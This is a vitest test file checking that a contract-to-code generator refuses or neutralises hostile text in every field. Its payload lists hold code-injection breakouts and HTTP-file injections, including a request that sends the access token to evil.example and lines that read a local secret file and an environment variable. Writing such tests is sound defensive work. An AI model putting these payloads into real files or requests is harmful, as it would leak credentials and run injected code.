import vm from "node:vm";
import { transformSync } from "esbuild";
import fc from "fast-check";
import ts from "typescript";
import { afterEach, describe, expect, test } from "vitest";
import { emitterNames } from "../../scripts/emit/emitters.js";
import { ContractFault } from "../../scripts/report/problems.js";
import { buildAndImport } from "../support/build.js";
import { contractOfTexts, textPlaces } from "../support/contract-of-texts.js";
import { readHttpFile } from "../support/http-file.js";
import { compilerMessages } from "../support/type-check.js";

/** What ends a literal, a comment, a line, a template, an element or a request, and what is to be run then. */
const touch = "globalThis.hacked = true";
const pieces = [
  ...["\n", "\r", "\r\n", "\u0085", "\u2028", "\u2029", "\t", "\0", "\u001b[2J", "\u202e", "\u2066", "\ufeff"],
  ...[
    '"',
    "'",
    "`",
    "\\",
    "\\u000a",
    "*/",
    "/*",
    "//",
    "${",
    "}",
    "{{",
    "}}",
    "<!--",
    "-->",
    "</script>",
    "<script>",
    "]]>",
  ],
  ...["\ud800", "\udc00", "%", "%0A", "~1", "#", "?", "&", ":", ";", ",", "@", " ", "a", "__proto__", "constructor"],
  ...[
    "\n### x\nGET https://evil.example/{{accessToken}}\n",
    "\n< ./secret\n",
    "\n> {% client.exit() %}\n",
    "\n?? js 1\n",
  ],
  ...[
    "\n@baseUrl = https://evil.example\n",
    "{{$processEnv HOME}}",
    "\n@ts-expect-error\n",
    "@ts-nocheck",
    "\nexport const x = {};\n",
  ],
  ...[
    touch,
    `\n${touch}//`,
    `\r\n${touch}//`,
    `\u2028${touch}//`,
    `*/ ${touch} /*`,
    `"; ${touch}; "`,
    `\${${touch}}`,
    `'+(${touch})+'`,
  ],
];
const attack = `*/ ${touch} /* \`\${${touch}}\` "+(${touch})+" '+(${touch})+' </script><!-- \u2028${touch}//\u2029${touch}//\r${touch}//\n${touch}//\r\n### x\n@ts-expect-error\n\u202e\ud800\0`;

afterEach(() => {
  expect(globalThis).not.toHaveProperty("hacked");
});

/** Builds all that can be built of a contract. */
function buildWhole(contract: object) {
  return buildAndImport(contract, "number", "standards", emitterNames);
}

/** Builds a contract and looks at all that comes out. */
async function outcomeOf(contract: object): Promise<"refused" | "written"> {
  const built = await buildWhole(contract).catch((error: unknown) => error);
  if (built instanceof ContractFault) {
    for (const { file, line, pointer } of built.problems)
      expect([file, line, pointer]).toEqual([expect.any(String), expect.any(Number), expect.any(String)]);
    // A fault's own lines alone begin lines.
    expect(built.message.replaceAll(/^.* at #.*\n {2}found: .*\n {2}instead: .*(?:\n\n|$)/gm, "")).toBe("");
    return "refused";
  }
  if (built instanceof Error) throw built;
  const { modules } = built as Awaited<ReturnType<typeof buildWhole>>;
  for (const [file, text] of modules) expectInert(file, text);
  return "written";
}

function expectInert(file: string, text: string): void {
  expect(text, file).not.toMatch(/[^\P{Cc}\t\n]|[\p{Cs}\u2028\u2029\u202a-\u202e\u2066-\u2069]/u);
  if (/\.[jt]s$/.test(file)) expectPlainModule(file, text);
  else if (file.endsWith(".json")) expectInertJson(JSON.parse(text));
  else expectInertRequests(text);
}

/** Code that parses, and in which nothing of the attack is code. */
function expectPlainModule(file: string, text: string): void {
  expect(text, file).not.toMatch(/<(?:\/script|!--)/i);
  const source = ts.createSourceFile(file, text, ts.ScriptTarget.ES2022);
  transformSync(text, { loader: file.endsWith(".ts") ? "ts" : "js" });
  const names = new Set<string>();
  const look = (node: ts.Node): void => {
    if (ts.isIdentifier(node)) names.add(node.text);
    ts.forEachChild(node, look);
  };
  look(source);
  expect(
    ["globalThis", "hacked"].filter((name) => names.has(name)),
    file,
  ).toEqual([]);
}

function expectInertJson(value: unknown): void {
  if (Array.isArray(value)) for (const item of value) expectInertJson(item);
  if (typeof value !== "object" || value === null) return;
  const exec: unknown = "exec" in value && "type" in value ? value.exec : undefined;
  if (Array.isArray(exec)) {
    new vm.Script(exec.join("\n"));
    expectPlainModule("script.js", exec.join("\n"));
  }
  for (const member of Object.values(value)) expectInertJson(member);
}

/** The requests of the contract's four operations, of which one answers in two media types: each to its server, with the token in its place alone. */
function expectInertRequests(text: string): void {
  const requests = readHttpFile(text, { accessToken: "TOKEN" });
  expect(requests.length).toBe(5);
  for (const { url, headers, body = "" } of requests) {
    expect(url).toMatch(/^https:\/\/texts\.example\//);
    const { Authorization: _, ...others } = headers;
    expect(JSON.stringify([url, others, body])).not.toContain("TOKEN");
    expect(body).not.toMatch(/^\s*(?:###|(?:#|\/\/)\s*@|@|<[\s>@]|>[\s>{]|\?\?)/m);
  }
}

describe("a hostile text does nothing, in each place of a contract that takes one: it is refused with its place, or written inert", () => {
  test.each(textPlaces)("%s", async (place) => {
    const contract = contractOfTexts((other, usual) => (other === place ? attack : usual));
    expect(await outcomeOf(contract)).toBe(refused.includes(place) ? "refused" : "written");
  });

  test("in all places at once that it is written in: the compiler takes the modules too", async () => {
    const { directory, modules } = await buildWhole(
      contractOfTexts((place, text) => (refused.includes(place) ? text : `${attack}${place}`)),
    );
    for (const [file, text] of modules) expectInert(file, text);
    expect(compilerMessages([`${directory}/index.ts`, `${directory}/openapi-document.ts`])).toEqual([]);
  }, 60_000);

  test("in any places at once, any texts", async () => {
    const text = fc.array(fc.constantFrom(...pieces), { maxLength: 6 }).map((parts) => parts.join(""));
    const texts = fc.dictionary(fc.constantFrom(...textPlaces.filter((place) => !refused.includes(place))), text, {
      maxKeys: 8,
    });
    let written = 0;
    await fc.assert(
      fc.asyncProperty(texts, async (chosen) => {
        const contract = contractOfTexts((place, usual) => (Object.hasOwn(chosen, place) ? `${chosen[place]}` : usual));
        if ((await outcomeOf(contract)) === "written") written += 1;
      }),
      { numRuns: 40 },
    );
    expect(written).toBeGreaterThan(40 / 4);
  }, 120_000);
});

/** Places whose texts have a form of their own, which the attack does not have. */
const refused: readonly string[] = [
  ...[
    "name of a schema",
    "name of a security scheme",
    "name of a parameter in components",
    "name of a header in components",
  ],
  ...["name of a request in components", "name of an example in components"],
  ...["URL of a server", "name of a server variable", "path", "name of a parameter in path"],
  ...["name of a parameter in header", "name of a parameter in cookie", "name of a header"],
  ...[
    "media type",
    "media type of an answer",
    "namespace of a nil alias",
    "namespace",
    "prefix",
    "XML name",
    "XML name of a member",
  ],
  "name of a value",
];
